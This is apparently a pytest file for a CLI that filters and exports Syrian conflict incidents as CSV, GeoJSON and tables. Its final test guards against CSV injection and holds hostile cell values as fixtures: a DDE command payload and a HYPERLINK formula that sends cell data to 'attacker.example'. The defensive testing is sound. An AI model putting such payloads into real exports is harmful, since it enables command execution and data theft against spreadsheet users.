"""`rasad incidents`: filters and formats, through the real command line, on a real store filled
with the incidents Rasad's extractors read from real reports (tests/history_data.py)."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from crawler.export import ACLED_COLUMNS, as_csv
from crawler.store import Store
from extractors.models import ACTOR_IDS, INCIDENT_TYPES, Article, Incident, Source
from tests.conftest import RunRasad
from tests.history_data import FilledStore, fill_store

RECENT = ("dev-24",)  # first seen an hour ago; every other report when it was published


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> FilledStore:
    return fill_store(tmp_path_factory.mktemp("history"), recent=RECENT)


def ids(run_rasad: RunRasad, filled: FilledStore, *args: str) -> list[str]:
    result = run_rasad("incidents", "--format", "json", *args, env={"RASAD_DATA_DIR": str(filled.data_dir)})
    assert result.returncode == 0, result.stderr
    return [i["id"] for i in json.loads(result.stdout)]


def expected(filled: FilledStore, keep: object) -> list[str]:
    return [i.id for i in filled.incidents if keep(i)]  # type: ignore[operator]


def test_first_seen_window_relative_and_iso(filled: FilledStore, run_rasad: RunRasad) -> None:
    recent = ids(run_rasad, filled, "--since", "3h")
    assert recent and recent == expected(
        filled, lambda i: filled.first_seen[i.id] > datetime.now(UTC) - timedelta(hours=3)
    )
    assert ids(run_rasad, filled) == [i.id for i in filled.incidents]  # the contract's default: all
    # 2022 in Syria's calendar: first seen from 1 January to 31 December inclusive
    year = ids(run_rasad, filled, "--since", "2022-01-01", "--until", "2022-12-31")
    assert year and year == expected(filled, lambda i: filled.first_seen[i.id].year == 2022)
    assert ids(run_rasad, filled, "--until", "3h") == expected(filled, lambda i: i.id not in recent)


def test_incident_date_window_drops_undated(filled: FilledStore, run_rasad: RunRasad) -> None:
    found = ids(run_rasad, filled, "--date-from", "2021-01-01", "--date-to", "2021-12-31")
    assert found and found == expected(filled, lambda i: i.date is not None and i.date.startswith("2021"))


@pytest.mark.parametrize(
    "spelling", ["دير الزور", "محافظة دير الزور", "ديرالزور", "Deir ez-Zor", "dayr az zawr"]
)
def test_governorate_spellings(filled: FilledStore, run_rasad: RunRasad, spelling: str) -> None:
    assert ids(run_rasad, filled, "--governorate", spelling) == expected(
        filled, lambda i: i.admin1 == "دير الزور"
    )


def test_repeated_filters_are_any_of_and_combine(filled: FilledStore, run_rasad: RunRasad) -> None:
    found = ids(
        run_rasad,
        filled,
        "--governorate",
        "حماه",
        "--governorate",
        "Homs",
        "--type",
        "raid",
        "--type",
        "killing",
    )
    want = expected(filled, lambda i: i.admin1 in ("حماة", "حمص") and {"raid", "killing"} & set(i.types))
    assert found and found == want
    isis = ids(run_rasad, filled, "--actor", "isis")  # as an actor or as the target
    assert isis == expected(filled, lambda i: "isis" in i.actors or "isis" in i.targets)
    assert any("isis" in i.targets and "isis" not in i.actors for i in filled.incidents if i.id in isis)


def test_background(filled: FilledStore, run_rasad: RunRasad) -> None:
    only = ids(run_rasad, filled, "--background", "only")
    excluded = ids(run_rasad, filled, "--background", "exclude")
    assert only and only == expected(filled, lambda i: i.background)
    assert excluded == expected(filled, lambda i: not i.background)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--type", "bombing"], "--type 'bombing': unknown id; valid: " + ", ".join(INCIDENT_TYPES)),
        (["--actor", "ISIS"], "--actor 'ISIS': unknown id; valid: " + ", ".join(ACTOR_IDS)),
        (["--governorate", "Beirut"], "--governorate 'Beirut': not a Syrian governorate; one of: "),
        (["--since", "yesterday"], "--since 'yesterday': use 24h, 7d"),
        (["--until", "tomorrow"], "--until 'tomorrow': use 24h, 7d"),
        (["--since", "99999999999d"], "--since '99999999999d': out of range"),
        (["--until", "1000000w"], "--until '1000000w': out of range"),
        (["--date-from", "1/2/2024"], "--date-from '1/2/2024': use an ISO date"),
    ],
)
def test_bad_filter_is_one_line_exit_2(
    filled: FilledStore, run_rasad: RunRasad, args: list[str], message: str
) -> None:
    result = run_rasad("incidents", *args, env={"RASAD_DATA_DIR": str(filled.data_dir)})
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("rasad: " + message), result.stderr


def test_every_format_honours_the_filters(filled: FilledStore, run_rasad: RunRasad) -> None:
    env = {"RASAD_DATA_DIR": str(filled.data_dir)}
    want = expected(filled, lambda i: i.admin1 == "حمص")
    assert 0 < len(want) < len(filled.incidents)
    out = {
        f: run_rasad("incidents", "--governorate", "Homs", "--format", f, env=env).stdout
        for f in ("csv", "geojson", "table")
    }
    assert [r["event_id_cnty"] for r in csv.DictReader(io.StringIO(out["csv"]))] == want
    assert [f["id"] for f in json.loads(out["geojson"])["features"]] == want
    assert len(out["table"].splitlines()) == 1 + len(want) and "حمص" in out["table"]


def test_csv_follows_acled_columns(filled: FilledStore, run_rasad: RunRasad) -> None:
    result = run_rasad("incidents", "--format", "csv", env={"RASAD_DATA_DIR": str(filled.data_dir)})
    reader = csv.DictReader(io.StringIO(result.stdout))
    rows = {row["event_id_cnty"]: row for row in reader}
    assert tuple(reader.fieldnames or ()) == ACLED_COLUMNS
    assert list(rows) == [i.id for i in filled.incidents]  # one row per incident
    for incident in filled.incidents:
        row = rows[incident.id]
        assert row["event_date"] == (incident.date or incident.sources[0].published[:10])  # type: ignore[index]
        assert (
            row["time_precision"] == ("1" if incident.date else "3") and row["year"] == row["event_date"][:4]
        )
        assert row["fatalities"] == str(incident.killed or 0)  # ACLED: a number, 0 when none is reported
        assert row["geo_precision"] in ("1", "2", "3") and row["country"] == "Syria" and row["iso"] == "760"
        if incident.lat is None:  # a place the gazetteer cannot settle (several of that name): no guess
            assert row["latitude"] == row["longitude"] == ""
        else:
            assert float(row["latitude"]) == incident.lat and float(row["longitude"]) == incident.lon
        assert row["actor1"] == (incident.actors[0] if incident.actors else "")
        assert row["assoc_actor_1"] == "; ".join(incident.actors[1:])
        assert row["actor2"] == (incident.targets[0] if incident.targets else "")
        assert row["location"] == incident.place and row["admin1"] == (incident.admin1 or "")
        assert "\n" not in row["notes"] and row["notes"].startswith(" ".join(incident.evidence.split())[:40])
        if incident.killed_max:
            assert row["notes"].endswith(f"[fatalities reported: {incident.killed}-{incident.killed_max}]")
    several = [i for i in filled.incidents if len({s.source_id for s in i.sources}) > 1]
    assert several, "no incident joined from two outlets"
    assert rows[several[0].id]["source"] == "; ".join(
        dict.fromkeys(s.source_id or "" for s in several[0].sources)
    )


def test_geojson_points_and_unplaced_counted(
    tmp_path: Path, filled: FilledStore, run_rasad: RunRasad
) -> None:
    # One more report that names no place: the extractor's output for a real text, its place taken away.
    store = Store(f"sqlite:///{tmp_path / 'rasad.sqlite3'}")
    placed = filled.incidents[:3]
    unplaced: Incident = replace(filled.incidents[-1], id="no-place", place=None, place_id=None, lat=None, lon=None,
                                 geo_precision=None, admin1=None, admin2=None, admin3=None)  # fmt: skip
    for number, incident in enumerate([*placed, unplaced]):
        url = f"https://example.org/{number}"
        store.save_article(Article(url=url, title="t", text="x"), [incident], timedelta(hours=72))
    store.close()
    result = run_rasad("incidents", "--format", "geojson", env={"RASAD_DATA_DIR": str(tmp_path)})
    assert (
        result.returncode == 0
        and result.stderr == "1 of 4 incident(s) have no coordinates and are left out\n"
    )
    collection = json.loads(result.stdout)
    assert collection["type"] == "FeatureCollection"
    assert [f["id"] for f in collection["features"]] == [i.id for i in placed]
    for feature, incident in zip(collection["features"], placed, strict=True):
        assert feature["geometry"] == {"type": "Point", "coordinates": [incident.lon, incident.lat]}
        assert feature["properties"]["types"] == list(incident.types) and "lat" not in feature["properties"]


def test_csv_cells_a_spreadsheet_would_run_stay_text() -> None:
    """Outlets' text that starts like a formula gets an apostrophe (CSV injection); numbers, including
    a negative one, and ordinary text are as they were."""
    hostile = Incident(
        types=("raid",), place="@SUM(1+1)*cmd|' /C calc'!A0", admin1="دير الزور", lat=35.3, lon=-40.1,
        killed=2, evidence='=HYPERLINK("http://attacker.example/?"&A1,"اضغط هنا")',
        sources=(Source("https://sy24.example/a", "sy24", "2025-01-02T09:00:00+03:00"),),
    ).with_stable_id()  # fmt: skip
    plain = replace(hostile, place="الرز", evidence="-- مداهمة في الرز", id="plain")
    tab = replace(hostile, place="\tالرز", evidence="+963 رقم هاتف", id="tab")
    rows = {r["event_id_cnty"]: r for r in csv.DictReader(io.StringIO(as_csv([hostile, plain, tab])))}
    assert rows[hostile.id]["notes"] == "'" + hostile.evidence
    assert rows[hostile.id]["location"] == "'" + (hostile.place or "")
    assert rows[hostile.id]["longitude"] == "-40.1" and rows[hostile.id]["fatalities"] == "2"
    assert (rows["plain"]["location"], rows["plain"]["notes"]) == ("الرز", "'-- مداهمة في الرز")
    assert (rows["tab"]["location"], rows["tab"]["notes"]) == ("'\tالرز", "'+963 رقم هاتف")
    assert rows["plain"]["source"] == "sy24" and rows["plain"]["event_date"] == "2025-01-02"
